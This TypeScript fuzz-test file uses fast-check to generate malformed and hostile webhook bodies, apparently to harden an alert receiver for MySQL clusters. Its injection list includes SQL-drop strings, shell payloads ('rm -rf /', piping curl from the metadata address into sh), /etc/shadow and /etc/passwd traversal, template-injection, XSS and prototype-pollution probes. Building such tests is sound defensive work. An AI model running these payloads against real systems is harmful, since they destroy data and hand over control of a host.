import fc from 'fast-check';
import { alert, clusters, payload, procedures } from './scene.js';

/** What people have tried on others: SQL, shells, paths, templates, markup, logs, terminals, prototypes, Unicode. */
const injections = [
  "db1'; DROP TABLE mysql.user; --",
  'db1` = 1; SET GLOBAL read_only = 0; -- ',
  "' OR '1'='1",
  'db1\\',
  '$(touch /tmp/lockstep-was-here)',
  '`reboot`',
  'db1; rm -rf /',
  'db1 && curl http://169.254.169.254/ | sh',
  '--defaults-file=/etc/shadow',
  '../../../../etc/passwd',
  '/dev/null\0.pem',
  'file:///etc/passwd',
  '{{ .CommonLabels }}',
  '{{constructor.constructor("return process")()}}',
  '${7*7}',
  '#{7*7}',
  '%s%s%s%n',
  '{0.__class__.__init__.__globals__}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\n{"level":50,"msg":"forged"}\n',
  '\r\nSet-Cookie: a=b',
  '\u001b]0;owned\u0007\u001b[2J',
  '\u202egnissim',
  '\u2028\u2029',
  '\u0000',
  '\ud800',
  'ﬁ\u0301é\ufeff',
  'db1\u00a0',
  'ｄｂ１',
  'DB1',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '(a+)+$',
  'x'.repeat(9000),
] as const;

const known = [
  ...Object.keys(clusters),
  ...Object.values(clusters).flat(),
  ...procedures.map(({ name }) => name),
  ...['audit', 'accounts', 'server', '', 'ReplicationStopped', 'Watchdog'],
];

const hostile = fc.oneof(fc.constantFrom(...injections), fc.string(), fc.constantFrom(...known));
const often = (...usual: readonly string[]) =>
  fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...usual) }, { weight: 1, arbitrary: hostile });

/** Own properties whatever their names, as JSON has them. */
const owned = (values: fc.Arbitrary<readonly (readonly [string, unknown])[]>) =>
  values.map((entries): Record<string, unknown> => Object.fromEntries(entries));

const more = owned(fc.array(fc.tuple(hostile, hostile), { maxLength: 3 }));
const labels = fc
  .tuple(
    fc.record({
      alertname: often('ReplicationStopped', 'TlsNotRequired', 'WritableReplica', 'Watchdog'),
      procedure: often(...procedures.map(({ name }) => name)),
      cluster: often('shop', 'shop-eu'),
      server: often('db1', 'db2'),
      channel: often('', '', 'audit'),
      over: often(''),
      scope: often('', 'server'),
    }),
    more,
  )
  .map(([usual, others]) => ({ ...usual, ...others }));
const crowd = fc.integer({ min: 90, max: 120 }).map((count) =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [`label_${index}`, `${index}`])),
); // prettier-ignore

const wellFormed = fc
  .tuple(labels, more, fc.constantFrom('firing', 'firing', 'resolved'))
  .map(([given, annotations, status]) => alert(given as Record<string, string>, { annotations, status }));
const field = fc.constantFrom('status', 'labels', 'annotations', 'startsAt', 'fingerprint', 'endsAt', '__proto__');
const illFormed = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  crowd.map((given) => alert(given)),
  fc
    .tuple(wellFormed, field, fc.oneof(fc.jsonValue({ maxDepth: 2 }), hostile))
    .map(([given, name, value]) => Object.fromEntries([...Object.entries(given), [name, value]])),
);
const alerts = fc.array(fc.oneof({ weight: 4, arbitrary: wellFormed }, { weight: 1, arbitrary: illFormed }), {
  maxLength: 6,
});
const webhook = fc.oneof(
  { weight: 8, arbitrary: alerts.map((given) => payload(given)) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(alerts, fc.constantFrom('version', 'alerts', 'truncatedAlerts', '__proto__', 'receiver'), fc.jsonValue())
      .map(([given, name, value]) => Object.fromEntries([...Object.entries(payload(given)), [name, value]])),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 6 }) },
);

const text = webhook.map((given) => Buffer.from(JSON.stringify(given)));
const deep = fc
  .tuple(fc.constantFrom('[', '{"alerts":', '{"version":"4","alerts":['), fc.integer({ min: 1, max: 20_000 }))
  .map(([opening, depth]) => Buffer.from(opening.repeat(depth)));
const broken = fc
  .tuple(text, fc.nat(), fc.uint8Array({ maxLength: 4 }))
  .map(([bytes, place, wrong]) => Buffer.concat([bytes.subarray(0, place % (bytes.length + 1)), wrong, bytes.subarray(place % (bytes.length + 1))])); // prettier-ignore
const cut = fc.tuple(text, fc.nat()).map(([bytes, place]) => bytes.subarray(0, place % (bytes.length + 1)));
const noise = fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes));

/** Bodies as a bad day, or a bad person, would send them. Half of them are payloads in good form. */
export const bodies: fc.Arbitrary<Buffer> = fc.oneof(
  { weight: 14, arbitrary: text },
  { weight: 2, arbitrary: broken },
  { weight: 2, arbitrary: cut },
  { weight: 1, arbitrary: deep },
  { weight: 1, arbitrary: noise },
);
